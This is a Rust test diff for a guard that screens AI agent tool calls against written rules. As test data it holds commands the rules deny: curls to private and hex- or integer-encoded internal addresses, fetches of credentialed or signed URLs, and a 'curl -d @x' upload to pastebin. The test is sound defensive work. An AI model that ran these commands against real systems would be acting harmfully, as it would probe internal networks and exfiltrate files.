@@ -536,3 +536,68 @@ fn a_direct_message_is_a_person_as_the_channel() -> Result<()> {
     assert_eq!(decide("deploys2024"), Decision::Allow);
     Ok(())
 }
+
+#[test]
+fn hosts_and_urls_by_network_port_and_what_they_carry() -> Result<()> {
+    let decide = |tool: &str, text: &str, arguments: serde_json::Value| {
+        Guard::from_rules([rule("u", tool, text, ToolMemoryPriority::Critical)])
+            .check(tool, &arguments)
+            .decision
+    };
+    let curl = |command: &str| {
+        decide(
+            "Bash",
+            "Don't curl private addresses (`10.*`, `192.168.0.0/16`).",
+            json!({ "command": command }),
+        )
+    };
+    assert_eq!(curl("curl http://10.2.3.4/health"), Decision::Deny);
+    assert_eq!(curl("curl http://167772161/"), Decision::Deny);
+    assert_eq!(curl("curl http://0xc0a80101/"), Decision::Deny);
+    assert_eq!(curl("curl http://192.168.1.1/"), Decision::Deny);
+    assert_eq!(curl("curl http://100.10.1.1/"), Decision::Allow);
+    assert_eq!(curl("curl https://example.com"), Decision::Allow);
+
+    let fetch =
+        |text: &str, url: &str| decide("WebFetch", text, json!({"url": url, "prompt": "x"}));
+    let ports = "Never open localhost ports other than 5173.";
+    assert_eq!(fetch(ports, "http://localhost:5173/"), Decision::Allow);
+    assert_eq!(fetch(ports, "http://127.0.0.1:9200/"), Decision::Deny);
+    assert_eq!(fetch(ports, "http://localhost:8080/admin"), Decision::Deny);
+    assert_eq!(fetch(ports, "https://example.com:8080/"), Decision::Allow);
+    let carried = "Never fetch URLs that carry credentials or signatures.";
+    assert_eq!(
+        fetch(carried, "https://bob:pw@git.example.com/r"),
+        Decision::Deny
+    );
+    assert_eq!(
+        fetch(carried, "https://b.s3.amazonaws.com/k?X-Amz-Signature=ab"),
+        Decision::Deny
+    );
+    assert_eq!(
+        fetch(carried, "https://bob@git.example.com/r"),
+        Decision::Allow
+    );
+    assert_eq!(
+        fetch(carried, "https://example.com/docs?page=2&design=1"),
+        Decision::Allow
+    );
+    let paste = "Don't upload anything to paste sites.";
+    assert_eq!(
+        decide(
+            "Bash",
+            paste,
+            json!({"command": "curl -d @x https://pastebin.com/api"})
+        ),
+        Decision::Deny
+    );
+    assert_eq!(
+        decide(
+            "Bash",
+            paste,
+            json!({"command": "curl -O https://github.com/a/b.tgz"})
+        ),
+        Decision::Allow
+    );
+    Ok(())
+}
